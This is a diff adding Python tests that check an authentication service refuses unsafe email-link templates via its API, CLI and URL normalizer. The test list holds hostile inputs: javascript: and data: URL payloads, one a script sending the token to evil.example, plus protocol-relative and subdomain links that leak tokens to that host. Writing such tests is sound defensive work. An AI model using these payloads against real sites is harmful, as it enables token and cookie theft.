@@ -11,6 +11,7 @@ import uuid
 from email.header import decode_header, make_header
 
 import httpx
+import pytest
 
 from auth.mail import VERIFY_EMAIL, VERIFY_SUBJECT
 from tests.support import (
@@ -167,3 +168,67 @@ async def test_verification_mails_to_one_address_are_budgeted(tmp_path, mailbox,
             assert len(mailbox.for_recipient(address, VERIFY_EMAIL)) == 2
     finally:
         server.stop()
+
+
+# -- link templates ----------------------------------------------------------------------
+
+HOSTILE_TEMPLATES = [
+    "javascript:alert(document.cookie)//{token}",
+    "data:text/html,<script>location='https://evil.example/?t={token}'</script>",
+    "//evil.example/{token}",
+    "/verify?token={token}",
+    "ftp://app.example.com/{token}",
+    "https://{token}.evil.example/",
+    "https://user:pass@app.example.com/verify?token={token}",
+    "https:///verify?token={token}",
+    "https://app.example.com/verify?token={token} x",
+    "https://app.example.com/no-token",
+    "https://app.example.com/" + "a" * 2000 + "{token}",
+]
+
+
+async def test_link_templates_must_be_absolute_web_links_with_a_token(hub, client):
+    product = create_product(hub)
+    sk = bearer(product["sk_live"])
+    for field in ("verify_url_template", "reset_url_template"):
+        for bad in [*HOSTILE_TEMPLATES, 42, ["https://app.example.com/{token}"]]:
+            refused = await client.patch("/api/v1/product", headers=sk, json={field: bad})
+            assert refused.status_code == 422, (field, bad, refused.text)
+            details = refused.json()["error"]["details"]
+            assert details[field]["code"] == "field.not_url_template", (field, bad)
+            assert "https://" in details[field]["message"]
+    unchanged = (await client.get("/api/v1/product", headers=sk)).json()["product"]
+    assert unchanged["verify_url_template"] is None and unchanged["reset_url_template"] is None
+    good = {
+        "verify_url_template": "https://app.example.com/verify?token={token}",
+        "reset_url_template": "http://localhost:3000/reset/{token}",  # http: development
+    }
+    accepted = await client.patch("/api/v1/product", headers=sk, json=good)
+    assert accepted.status_code == 200, accepted.text
+    assert {k: accepted.json()["product"][k] for k in good} == good
+
+
+@pytest.mark.parametrize("flag", ["--verify-url", "--reset-url"])
+def test_the_cli_refuses_hostile_link_templates(hub, flag):
+    for bad in ("javascript:alert(1)//{token}", "//evil.example/{token}", "data:,{token}"):
+        slug = f"p-{uuid.uuid4().hex[:10]}"
+        result = hub.cli("products", "create", "--slug", slug, "--name", "X", flag, bad)
+        assert result.returncode != 0 and "template" in result.stderr, (bad, result.stdout)
+        assert slug not in hub.cli("products", "list").stdout  # nothing was created
+    product = create_product(hub)
+    refused = hub.cli(
+        "products", "set-verification", product["slug"], "--verify-url", "javascript:{token}"
+    )
+    assert refused.returncode != 0 and "template" in refused.stderr
+
+
+def test_production_link_templates_are_https_only():
+    from auth.products import normalize_url_template
+
+    https = "https://app.example.com/verify?token={token}"
+    assert normalize_url_template(https, https_only=True) == https
+    with pytest.raises(ValueError):
+        normalize_url_template("http://app.example.com/verify?token={token}", https_only=True)
+    for bad in HOSTILE_TEMPLATES:
+        with pytest.raises(ValueError):
+            normalize_url_template(bad)
